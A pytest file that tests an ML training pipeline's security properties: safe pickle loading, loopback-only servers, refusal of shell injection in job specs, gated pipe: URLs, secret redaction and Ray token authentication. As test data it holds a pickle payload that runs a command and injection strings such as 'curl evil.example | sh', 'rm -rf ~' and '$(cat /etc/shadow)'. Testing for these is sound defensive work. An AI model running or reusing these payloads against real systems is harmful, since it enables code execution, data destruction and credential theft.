"""Security properties: nothing is unpickled from storage, secrets never reach what a run writes,
servers bind 127.0.0.1, job specs cannot inject shell, ``pipe:`` URLs need explicit consent."""

from __future__ import annotations

import ast
import logging
import os
import pickle
import re
import shlex
import shutil
import signal
import subprocess
import sys
from pathlib import Path

import numpy as np
import pytest
import yaml

from pipeline import pretrain
from pipeline.config import ConfigError
from pipeline.models.convert import read_haiku_file
from pipeline.run import ray_cluster
from pipeline.run.ray_cluster import (
    AUTH_MODE,
    AUTH_TOKEN,
    AUTH_TOKEN_PATH,
    auth_headers,
    local_ray_env,
    read_token,
)
from pipeline.run.schedule import TaskSpec, finetune_argv, load_tasks
from pipeline.tracking.redact import redact_text

ROOT = Path(__file__).resolve().parents[2]
PACKAGE = ROOT / "pipeline"
SECRETS = ("AKIAPLANTEDSECRET1", "plantedsecretvalue2", "plantedsecretvalue3")


def package_sources() -> dict[str, str]:
    return {str(p.relative_to(ROOT)): p.read_text() for p in sorted(PACKAGE.rglob("*.py"))}


# --- nothing is unpickled from storage -------------------------------------------------------


def test_no_unrestricted_unpickling_in_the_package():
    sources = package_sources()
    assert len(sources) > 40  # the whole package was read
    torch_loads = [
        (name, line)
        for name, text in sources.items()
        for line in text.splitlines()
        if "torch.load(" in line
    ]
    assert [call for call in torch_loads if "weights_only=True" not in call[1]] == []
    banned = re.compile(r"pickle\.loads?\(|\bdill\b|cloudpickle\.loads?\(|joblib\.load\(")
    assert [name for name, text in sources.items() if banned.search(text)] == []
    # The one Unpickler in the package is the Haiku reader's allow-list.
    unpicklers = [
        (name, node.name)
        for name, text in sources.items()
        for node in ast.walk(ast.parse(text))
        if isinstance(node, ast.ClassDef)
        and any(ast.unparse(base) == "pickle.Unpickler" for base in node.bases)
    ]
    assert unpicklers == [("pipeline/models/convert.py", "_ArrayUnpickler")]


class _RunsACommand:
    def __init__(self, marker: Path):
        self.marker = marker

    def __reduce__(self):
        return (os.system, (f"touch {self.marker}",))


def test_haiku_reader_refuses_a_pickle_that_runs_a_command(tmp_path):
    marker = tmp_path / "pwned"
    hostile = tmp_path / "F0_haiku.npz"
    hostile.write_bytes(pickle.dumps({"stem/conv": {"w": _RunsACommand(marker)}}))
    with pytest.raises(ValueError, match=r"refusing to load posix\.system"):
        read_haiku_file(hostile)
    assert not marker.exists()


def test_haiku_reader_still_reads_plain_arrays(tmp_path):
    weights = {"stem/conv": {"w": np.arange(6, dtype=np.float32).reshape(1, 2, 3), "b": np.ones(3)}}
    path = tmp_path / "F0_haiku.npz"
    path.write_bytes(pickle.dumps(weights))
    tree = read_haiku_file(path)
    assert np.array_equal(tree["stem/conv"]["w"], weights["stem/conv"]["w"])
    assert np.array_equal(tree["stem/conv"]["b"], np.ones(3))


# --- servers bind 127.0.0.1 -----------------------------------------------------------------


def _string_sequences(path: Path) -> list[list[str]]:
    """Every call's positional string arguments and every list literal of strings in a file."""
    sequences = []
    for node in ast.walk(ast.parse(path.read_text())):
        items = node.args if isinstance(node, ast.Call) else getattr(node, "elts", None)
        if isinstance(node, ast.Call | ast.List | ast.Tuple) and items:
            sequences.append([a.value if isinstance(a, ast.Constant) else None for a in items])
    return sequences


def _flag_values(path: Path, flag: str) -> list[str | None]:
    return [
        seq[i + 1] for seq in _string_sequences(path) for i, v in enumerate(seq[:-1]) if v == flag
    ]


@pytest.mark.parametrize(
    "relative, flags",
    [
        ("pipeline/run/demo.py", {"--node-ip-address": 1, "--dashboard-host": 1}),
        ("tests/fixtures/ray_cluster.py", {"--node-ip-address": 2, "--dashboard-host": 1}),
        ("tests/fixtures/mlflow_server.py", {"--host": 1}),
        ("tests/integration/conftest.py", {"-H": 1}),
    ],
)
def test_every_server_command_binds_loopback(relative: str, flags: dict[str, int]):
    path = ROOT / relative
    for flag, count in flags.items():
        assert _flag_values(path, flag) == ["127.0.0.1"] * count, flag
    assert "0.0.0.0" not in path.read_text()


def test_local_ray_is_started_on_loopback_with_a_loopback_dashboard():
    from pipeline.run import ray_cluster

    tree = ast.parse(Path(ray_cluster.__file__).read_text())
    connect = next(n for n in tree.body if getattr(n, "name", "") == "connect_ray")
    local = [
        {kw.arg: ast.literal_eval(kw.value) for kw in call.keywords if kw.arg}
        for call in ast.walk(connect)
        if isinstance(call, ast.Call) and ast.unparse(call.func) == "ray.init"
        and any(kw.arg == "address" and ast.unparse(kw.value) == "'local'" for kw in call.keywords)
    ]  # fmt: skip
    assert len(local) == 1
    assert local[0]["_node_ip_address"] == "127.0.0.1"
    assert local[0]["dashboard_host"] == "127.0.0.1"
    assert not any("0.0.0.0" in text for text in package_sources().values())


def test_a_local_cluster_is_stopped_whole_even_a_process_that_ignores_sigterm(tmp_path):
    """What the demo's head gets at the end: SIGTERM, then SIGKILL after the grace period (a GCS
    can hang in its SIGTERM shutdown and keep its ports open)."""
    mark = f"ray-stop-mark-{tmp_path.name}"
    code = (
        "import signal, time; signal.signal(signal.SIGTERM, signal.SIG_IGN); "
        "print('ready', flush=True); time.sleep(120)"
    )
    process = subprocess.Popen(
        [sys.executable, "-c", code, mark], stdout=subprocess.PIPE, text=True
    )
    assert process.stdout.readline().strip() == "ready"
    assert ray_cluster.stop_ray_processes([mark], grace=1.0) == 1
    assert process.wait(timeout=10) == -signal.SIGKILL


# --- job specs cannot inject shell ----------------------------------------------------------


def write_spec(folder: Path, **fields) -> Path:
    spec = {"name": "digits", "config": "configs/finetune/digits.yaml",
            "train_url": "file://shards/digits"} | fields  # fmt: skip
    folder.mkdir(exist_ok=True)
    (folder / "digits.yaml").write_text(yaml.safe_dump(spec))
    return folder / "digits.yaml"


@pytest.mark.parametrize(
    "key, value",
    [
        ("train_url", "file://x; curl evil.example | sh"),
        ("train_url", "s3://bucket/$(id)"),
        ("config", "configs/finetune/digits.yaml && rm -rf ~"),
        ("config", "`reboot`.yaml"),
        ("overrides", ["optim.lr=0.1 ; rm -rf ~"]),
        ("overrides", ["optim.lr=$(cat /etc/shadow)"]),
        ("overrides", ["--from=scratch"]),
        ("overrides", ["optim.lr=0.1\ntouch /tmp/x"]),
    ],
)
def test_job_spec_with_shell_syntax_is_refused_naming_file_and_key(tmp_path, key, value):
    path = write_spec(tmp_path / "jobs", **{key: value})
    with pytest.raises(ConfigError) as error:
        load_tasks(tmp_path / "jobs")
    message = str(error.value)
    assert message.startswith(f"{path}: '{key}")
    assert "shell syntax" in message


def test_entrypoint_round_trips_hostile_looking_but_valid_values():
    task = TaskSpec(
        name="digits-2",
        config="configs/fine tune/digits (copy).yaml",
        train_url="s3://bucket/sets/digits*?v=1 #2",
        overrides=["optim.lr=0.01", "data.train_url=file:///d/x,y+z@1", "tracking.run_name=a=b"],
    )
    argv = finetune_argv(
        task, "0123abcd" * 4, 500, "http://127.0.0.1:5000/?a=1&b=2", "exp (ablation) #1; ok", None
    )
    entrypoint = shlex.join(argv)
    assert shlex.split(entrypoint) == argv
    assert len(argv) == 15
    assert argv[:3] == ["python", "-m", "pipeline.finetune"]
    assert argv[6] == "0123abcd" * 4 + "@500"
    assert argv[11] == "tracking.experiment=exp (ablation) #1; ok"
    # a shell parsing the entrypoint sees exactly these 15 words: nothing after ';' or '#'
    # runs or is dropped
    via_shell = subprocess.run(
        ["sh", "-c", f"set -- {entrypoint}; for w in \"$@\"; do printf '%s\\0' \"$w\"; done"],
        capture_output=True, text=True, check=True,
    )  # fmt: skip
    assert via_shell.stdout.split("\0")[:-1] == argv


# --- pipe: URLs need data.allow_pipe ----------------------------------------------------------


def test_pipe_url_is_refused_unless_allowed(tmp_path, capsys, monkeypatch):
    monkeypatch.delenv("RAY_ADDRESS", raising=False)
    marker = tmp_path / "ran"
    config = tmp_path / "pipe.yaml"
    config.write_text(yaml.safe_dump({"model": {"name": "nfnet_nano"}}))
    argv = ["--config", str(config), "--dry-run", f"data.train_url=pipe:touch {marker}"]
    assert pretrain.main(argv) == 2
    stderr = capsys.readouterr().err
    assert "data.train_url" in stderr and "data.allow_pipe=true" in stderr
    assert not marker.exists()


# --- secrets never reach what a run writes ---------------------------------------------------


def _found(blob: bytes | str, secrets: tuple[str, ...] = SECRETS) -> list[str]:
    text = blob.decode("utf-8", "replace") if isinstance(blob, bytes) else blob
    return [secret for secret in secrets if secret in text]


def _leaking_lines(text: str, secrets: tuple[str, ...]) -> list[str]:
    """The lines of ``text`` holding a secret, the secret itself masked: where it leaked."""
    lines = [line for line in text.splitlines() if _found(line, secrets)]
    for secret in secrets:
        lines = [line.replace(secret, "<planted>") for line in lines]
    return lines


def test_redact_text_hides_url_passwords_and_credential_variables_only():
    env = {
        "MLFLOW_TRACKING_PASSWORD": SECRETS[1],
        "RAY_AUTH_TOKEN": SECRETS[2],
        "RAY_AUTH_TOKEN_PATH": "/home/me/.ray/auth_token",  # a path, not a credential
        "TOKENIZERS_PARALLELISM": "false",  # "token" inside a name is not enough
        "AWS_SECRET_ACCESS_KEY": "short",  # too short to be worth replacing
    }
    message = (
        f"tracking server http://bob:{SECRETS[0]}@mlflow:5000/x?sig=abc refused {SECRETS[1]}; "
        f"token {SECRETS[2]} from /home/me/.ray/auth_token; allow_pipe=false; short"
    )
    assert redact_text(message, env) == (
        "tracking server http://bob:***@mlflow:5000/x?sig=*** refused ***; "
        "token *** from /home/me/.ray/auth_token; allow_pipe=false; short"
    )


@pytest.mark.integration
def test_planted_secrets_appear_nowhere_a_real_run_writes(
    tmp_path, ray_cluster, mlflow_auth_server, monkeypatch
):
    """Storage keys in the config, an AWS key, the MLflow password (in the environment and in
    ``tracking.uri``, the two ways a user gives it) and the Ray token: none reaches a param, tag,
    artifact, checkpoint or the driver's output, which carries the workers' logs. The run logs to
    an MLflow server that authenticates."""
    from mlflow import MlflowClient

    from tests.fixtures.ray_cluster import session_token

    server = mlflow_auth_server
    planted = (*SECRETS, server.password, session_token())
    credentials = {"key": SECRETS[0], "secret": SECRETS[1]}
    port = server.uri.rsplit(":", 1)[1]
    uri_with_password = f"http://{server.username}:{server.password}@127.0.0.1:{port}"
    config = {
        "model": {"name": "nfnet_nano"},
        "data": {"train_url": "synthetic://?samples=64&resolution=32&classes=10",
                 "storage_options": credentials},
        "train": {"global_batch": 16, "micro_batch": 8, "steps": 2, "log_every": 1,
                  "eval_every": 2},
        "checkpoint": {"storage_url": f"file://{tmp_path}/runs", "every_steps": 2,
                       "storage_options": credentials},
        "tracking": {"uri": uri_with_password, "experiment": f"secrets-{tmp_path.name}"},
        "scaling": {"num_workers": 1},
    }  # fmt: skip
    path = tmp_path / "secrets.yaml"
    path.write_text(yaml.safe_dump(config))
    result = subprocess.run(
        [sys.executable, "-m", "pipeline.pretrain", "--config", str(path)],
        env=ray_cluster.env(AWS_SECRET_ACCESS_KEY=SECRETS[2], **server.credentials()),
        cwd=ROOT, capture_output=True, text=True, timeout=300,
    )  # fmt: skip
    assert result.returncode == 0, redact_text((result.stdout + result.stderr)[-4000:])
    assert _leaking_lines(result.stdout + result.stderr, planted) == []

    for name, value in server.credentials().items():
        monkeypatch.setenv(name, value)
    client = MlflowClient(server.uri)
    experiment = client.get_experiment_by_name(config["tracking"]["experiment"])
    (run,) = client.search_runs([experiment.experiment_id])
    assert run.info.status == "FINISHED"
    assert len(client.get_metric_history(run.info.run_id, "train/loss")) == 2
    data = run.data
    # the keys are logged, their values redacted
    assert data.params["checkpoint.storage_options.key"] == "***"
    assert data.params["data.storage_options.secret"] == "***"
    assert data.params["tracking.uri"] == f"http://{server.username}:***@127.0.0.1:{port}"
    assert _found(repr(data.params), planted) == [] and _found(repr(data.tags), planted) == []
    assert _found(repr(sorted(data.metrics)), planted) == []
    downloaded = Path(client.download_artifacts(run.info.run_id, "", str(tmp_path / "artifacts")))
    artifacts = [p for p in downloaded.rglob("*") if p.is_file()]
    assert any(p.name == "config.yaml" for p in artifacts)
    checkpoints = [p for p in (tmp_path / "runs").rglob("*") if p.is_file()]
    assert any(p.name == "model.safetensors" for p in checkpoints)
    leaks = {str(p): _found(p.read_bytes(), planted) for p in artifacts + checkpoints}
    assert {name: found for name, found in leaks.items() if found} == {}


# --- Ray's token: on by default, found where Ray looks, private -------------------------------


@pytest.fixture
def token_env(tmp_path, monkeypatch) -> Path:
    """A home of its own (so ~/.ray is the test's) and no Ray token or mode in the environment."""
    monkeypatch.setenv("HOME", str(tmp_path / "home"))
    for name in (AUTH_MODE, AUTH_TOKEN, AUTH_TOKEN_PATH):
        monkeypatch.delenv(name, raising=False)
    ray_cluster._warn_disabled.cache_clear()
    return tmp_path / "home"


def test_a_cluster_we_start_runs_token_auth_with_a_private_generated_token(token_env):
    env = local_ray_env()
    assert env[AUTH_MODE] == "token"
    path = token_env / ".ray" / "auth_token"
    token = path.read_text()
    assert re.fullmatch(r"[0-9a-f]{64}", token)  # 32 random bytes, as Ray generates them
    assert path.stat().st_mode & 0o777 == 0o600
    assert [p.name for p in path.parent.iterdir()] == ["auth_token"]  # no partial file left
    assert local_ray_env()[AUTH_MODE] == "token" and path.read_text() == token  # kept
    assert auth_headers() == {"Authorization": f"Bearer {token}"}


def test_the_token_is_found_where_ray_looks_for_it(token_env, tmp_path, monkeypatch):
    (token_env / ".ray").mkdir(parents=True)
    (token_env / ".ray" / "auth_token").write_text("from-home\n")
    assert read_token() == "from-home"
    (tmp_path / "elsewhere").write_text("from-path")
    monkeypatch.setenv(AUTH_TOKEN_PATH, str(tmp_path / "elsewhere"))
    assert read_token() == "from-path"
    monkeypatch.setenv(AUTH_TOKEN, "from-variable")
    assert read_token() == "from-variable"
    assert local_ray_env()[AUTH_MODE] == "token"
    assert (tmp_path / "elsewhere").read_text() == "from-path"  # nothing generated over it


def test_disabled_by_the_user_means_no_token_and_one_warning(token_env, monkeypatch, caplog):
    monkeypatch.setenv(AUTH_MODE, "disabled")
    with caplog.at_level(logging.WARNING, logger="pipeline.run.ray_cluster"):
        for _ in range(3):
            assert local_ray_env()[AUTH_MODE] == "disabled"
        assert auth_headers() == {}
    assert not (token_env / ".ray").exists()
    warnings = [r.getMessage() for r in caplog.records if r.levelno == logging.WARNING]
    assert len(warnings) == 1 and "RAY_AUTH_MODE=disabled" in warnings[0]


def listening_addresses(port: int) -> set[str]:
    """The local addresses with a TCP socket listening on ``port``, as ``ss -ltn`` reports them."""
    # ss rather than /proc/net/tcp: sandboxed kernels (gVisor) leave /proc/net/tcp empty.
    table = subprocess.run(["ss", "-ltnH"], capture_output=True, text=True, check=True).stdout
    found = set()
    for line in table.splitlines():
        address, _, local_port = line.split()[3].rpartition(":")
        if int(local_port) == port:
            found.add(address.strip("[]").removeprefix("::ffff:"))
    return found


@pytest.mark.integration
def test_dashboard_and_mlflow_server_listen_on_loopback_only(ray_cluster, mlflow_server):
    if shutil.which("ss") is None:
        pytest.skip("needs ss (iproute2) to list listening sockets")
    dashboard_port = int(ray_cluster.dashboard_url.rsplit(":", 1)[1])
    mlflow_port = int(mlflow_server.rsplit(":", 1)[1])
    assert listening_addresses(dashboard_port) == {"127.0.0.1"}
    assert listening_addresses(mlflow_port) == {"127.0.0.1"}


def test_pipe_url_works_once_allowed(tmp_path, monkeypatch):
    """The control: with data.allow_pipe=true the same kind of URL is read through the shell."""
    from pipeline.data.sources import shapes
    from pipeline.data.writer import write_shards
    from pipeline.run.preflight import prepare

    monkeypatch.delenv("RAY_ADDRESS", raising=False)
    write_shards(shapes(40, 16, seed=0), f"file://{tmp_path}/set", samples_per_shard=20,
                 val_samples=8, progress=False)  # fmt: skip
    config = tmp_path / "pipe.yaml"
    base = {"model": {"name": "nfnet_nano"}, "train": {"global_batch": 16, "micro_batch": 8},
            "checkpoint": {"storage_url": f"file://{tmp_path}/runs"},
            "tracking": {"uri": f"sqlite:///{tmp_path}/mlflow.db"}}  # fmt: skip
    config.write_text(yaml.safe_dump(base))
    url = f"data.train_url=pipe:cat {tmp_path}/set/{{path}}"
    _, plan = prepare(config, ["data.allow_pipe=true", url], dry_run=True)
    assert plan.train_samples == 32  # from the dataset's info file, read through the shell
